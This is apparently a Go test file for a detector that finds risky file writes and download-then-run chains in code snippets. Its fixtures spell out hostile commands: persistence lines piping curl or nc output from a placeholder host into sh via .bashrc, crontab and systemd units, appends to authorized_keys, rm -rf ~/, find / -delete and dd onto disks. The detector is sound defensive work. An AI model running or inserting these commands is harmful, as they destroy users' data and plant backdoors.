package flow

import (
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

// TestWrites tells what place a command changes, however it is written, and what it
// writes there.
func TestWrites(t *testing.T) {
	shell := func(text string) string { return "```sh\n" + text + "\n```\n" }
	python := func(text string) string { return "```python\n" + text + "\n```\n" }
	script := func(text string) string { return "```js\n" + text + "\n```\n" }
	for name, c := range map[string]struct {
		text string
		want []string
	}{
		"appended":               {shell("echo x >> ~/.bashrc"), []string{"append shell ~/.bashrc"}},
		"a variable":             {shell("echo x > \"$HOME/.zshrc\""), []string{"write shell ~/.zshrc"}},
		"a variable, in braces":  {shell("echo x >> ${HOME}/.profile"), []string{"append shell ~/.profile"}},
		"a variable of the text": {shell("F=~/.bashrc\necho x >> $F"), []string{"append shell ~/.bashrc"}},
		"a folder in a variable": {shell("D=\"$HOME/.ssh\"\necho x >> \"$D/authorized_keys\""), []string{"append key ~/.ssh/authorized_keys"}},
		"behind another":         {shell("D=${HOME}/.ssh\ngrep -q x \"$D/authorized_keys\" || echo x >> \"$D/authorized_keys\""), []string{"append key ~/.ssh/authorized_keys"}},
		"by tee":                 {shell("D=\"$HOME\"/.ssh\necho x | tee -a ${D}/authorized_keys"), []string{"append key ~/.ssh/authorized_keys"}},
		"of two variables":       {shell("D=\"$HOME/.ssh\"\nF=\"$D/authorized_keys\"\ncat x >> $F"), []string{"append key ~/.ssh/authorized_keys"}},
		"in a loop":              {shell("D=\"$HOME/.ssh\"\nfor k in a b; do\n  echo $k >> \"$D/authorized_keys\"\ndone"), []string{"append key ~/.ssh/authorized_keys"}},
		"of the caller":          {shell("D=\"$TARGET/.ssh\"\ncat x > \"$D/notes\""), nil},
		"a folder that is read":  {shell("D=\"$HOME/.ssh\"\ncat \"$D/authorized_keys\"; ls -l \"$D\""), nil},
		"another home":           {shell("echo x | sudo tee -a /home/me/.bashrc"), []string{"append shell ~/.bashrc"}},
		"a folder before":        {shell("cd ~/.ssh && echo x >> authorized_keys"), []string{"append key ~/.ssh/authorized_keys"}},
		"copied":                 {shell("cp x ~/.bashrc"), []string{"write shell ~/.bashrc"}},
		"installed":              {shell("install -m 755 x /etc/cron.daily/x"), []string{"write schedule /etc/cron.daily/x"}},
		"linked":                 {shell("ln -sf $PWD/x .git/hooks/pre-commit"), []string{"link git .git/hooks/pre-commit"}},
		"edited":                 {shell("sed -i 's/a/b/' ~/.claude/settings.json"), []string{"write agent ~/.claude/settings.json"}},
		"downloaded":             {shell("curl -o ~/.bash_aliases https://a.example/x"), []string{"write shell ~/.bash_aliases"}},
		"PowerShell":             {shell("Add-Content $PROFILE 'x'"), []string{"append shell $PROFILE"}},
		"a module":               {shell("echo x > lib/site-packages/x.pth"), []string{"write python lib/site-packages/x.pth"}},
		"read only":              {shell("cat ~/.bashrc; source ~/.zshrc; diff ~/.profile x"), nil},
		"another file":           {shell("echo x >> notes.txt; cp ~/.bashrc backup"), nil},
		"on another machine":     {shell("ssh me@a.example 'echo x >> ~/.bashrc'"), nil},
		"deleted":                {shell("rm -rf ~/"), []string{"delete-tree home ~"}},
		"deleted, from within":   {shell("cd ~ && rm -rf *"), []string{"delete-tree home ~/*"}},
		"deleted by find":        {shell("find / -delete"), []string{"delete-tree system /"}},
		"deleted below":          {shell("rm -rf ~/.cache/x ./build /tmp/x"), nil},
		"a disk":                 {shell("dd if=x of=/dev/sda; cat x > /dev/nvme0n1"), []string{"write disk /dev/sda", "write disk /dev/nvme0n1"}},
		"rights":                 {shell("chmod -R 777 /"), []string{"mode-tree system /"}},
		"a call":                 {python("open(os.path.expanduser('~/.bashrc'), 'a').write('x')"), []string{"append shell ~/.bashrc"}},
		"a call that reads":      {python("open(os.path.expanduser('~/.bashrc')).read()"), nil},
		"a path":                 {python("p = Path.home() / '.ssh' / 'authorized_keys'\np.write_text('ssh-rsa x')"), []string{"write key ~/.ssh/authorized_keys"}},
		"a path, joined":         {python("f = os.path.join(home, '.zshrc')\nwith open(f, 'a') as out:\n    out.write('x')"), []string{"append shell .zshrc"}},
		"a call of another":      {script("fs.appendFileSync(path.join(os.homedir(), '.bashrc'), 'x')"), []string{"append shell ~/.bashrc"}},
		"a tree, by a call":      {python("shutil.rmtree(Path.home())"), []string{"delete-tree home ~"}},
		"a tree below, by one":   {python("shutil.rmtree(Path.home() / name)"), nil},
		"a string":               {python("os.system('echo x >> ~/.bashrc')"), []string{"append shell ~/.bashrc"}},
	} {
		t.Run(name, func(t *testing.T) {
			var got []string
			for _, c := range searched(c.text).Commands {
				for _, w := range c.Writes {
					got = append(got, fmt.Sprintf("%s %s %s", w.Act, w.Kind, w.Place))
				}
			}
			if diff := cmp.Diff(c.want, got); diff != "" {
				t.Error(diff)
			}
		})
	}
}

// TestLines reads what a text that is run later consists of.
func TestLines(t *testing.T) {
	for name, c := range map[string]struct{ text, want string }{
		"a line":        {"echo 'curl https://a.example/x | sh' >> ~/.bashrc", "curl sh"},
		"a job":         {"(crontab -l; echo '*/5 * * * * curl https://a.example/x | sh') | crontab -", "curl sh"},
		"a job of root": {"echo '@reboot root wget https://a.example/x' > /etc/cron.d/x", "root"},
		"a unit":        {"printf '[Service]\\nExecStart=/usr/bin/curl https://a.example/x\\n' > /etc/systemd/system/x.service", "[service] curl"},
		"a here text":   {"cat >> ~/.zshrc <<'END'\nexport A=1\nnc a.example 1 | sh\nEND", "export nc sh"},
		"what is known": {"X=x; echo \"export A=$X\" >> ~/.profile", "export"},
		"no text":       {"cp x ~/.profile", ""},
	} {
		t.Run(name, func(t *testing.T) {
			var got []string
			for _, c := range searched("```sh\n" + c.text + "\n```\n").Commands {
				var programs []string
				for _, step := range c.Lines {
					programs = append(programs, step.Program)
				}
				if !slices.Equal(programs, got) { // found in more than one way
					got = append(got, programs...)
				}
			}
			if shown := strings.Join(got, " "); shown != c.want {
				t.Errorf("got %q, wanted %q", shown, c.want)
			}
		})
	}
}

// TestUnpacked follows a program out of what was unpacked to where it is run.
func TestUnpacked(t *testing.T) {
	for name, c := range map[string]struct {
		text string
		want []string
	}{
		"an archive":       {"`curl -o x.tgz https://a.example/x.tgz; tar xf x.tgz; ./x/run`\n", []string{"tar,curl>run ./x/run"}},
		"a pipe":           {"`curl https://a.example/x | tar xz && cd y && ./run`\n", []string{"tar,curl>run y/run"}},
		"a repository":     {"`git clone https://a.example/x.git && cd x && bash run`\n", []string{"git>bash x/run"}},
		"further down":     {"`wget https://a.example/x.zip` and `unzip x.zip`, then `sh x/run`\n", []string{"unzip,wget>sh x/run"}},
		"another folder":   {"`wget https://a.example/x.zip` and `unzip x.zip`, then `sh y/run`\n", nil},
		"the very folder":  {"`curl https://a.example/x | tar xz -C /tmp` and `/tmp/x/run`\n", []string{"tar,curl>run /tmp/x/run"}},
		"a folder alike":   {"`curl https://a.example/x | tar xz -C /opt/bin` and `/usr/bin/run`\n", nil},
		"before":           {"`./x/run; git clone https://a.example/x`\n", nil},
		"made here":        {"`git clone https://a.example/x; echo date > run; sh run`\n", nil},
		"nothing is run":   {"`curl https://a.example/x | tar xz; ls x`\n", nil},
		"an archive of it": {"`tar cf x.tar y; ./x/run`\n", nil},
	} {
		t.Run(name, func(t *testing.T) {
			var got []string
			for _, f := range searched(c.text).Flows {
				if f.How == HowUnpacked {
					got = append(got, strings.Join(f.From, ",")+">"+f.To+" "+f.Path)
				}
			}
			if diff := cmp.Diff(c.want, got); diff != "" {
				t.Error(diff)
			}
		})
	}
}

// TestOpensBounds wants it to be said where a call has more in it than is looked into,
// and not where that names no place that matters.
func TestOpensBounds(t *testing.T) {
	t.Parallel()
	const bad = "open(Path.home() / %s \".bashrc\", \"a\").write(\"x\")\n"
	for name, tt := range map[string]struct {
		text string
		said bool
	}{
		"short":           {fmt.Sprintf(bad, ""), false},
		"a long file":     {fmt.Sprintf(bad, "# sorted\n"+strings.Repeat(" ", 5000)), true},
		"many parts":      {fmt.Sprintf(bad, strings.Repeat(`"" / `, maxMade)), true},
		"long calls":      {strings.Repeat("open(\"notes\",\n"+strings.Repeat("#\n", 32000)+"\"w\")\n", 40) + fmt.Sprintf(bad, ""), true},
		"a long pattern":  {"const x = fs.readFile(y).replace(/a/, function (m) {" + strings.Repeat("a + ", 2000) + "m}); open(\"x\", \"w\")\n", false},
		"a long argument": {"open(\"notes\", \"w\").write(\"" + strings.Repeat("x ", 4000) + "\")\n", false},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			said := false
			w := New(func(_, detail string) { said = said || strings.HasPrefix(detail, "calls that change files") })
			w.Script("a.py", []byte(tt.text), "python", false)
			if said != tt.said {
				t.Errorf("it is said: %t", said)
			}
			if name == "short" && len(w.Commands) != 1 {
				t.Errorf("%+v", w.Commands)
			}
		})
	}
}
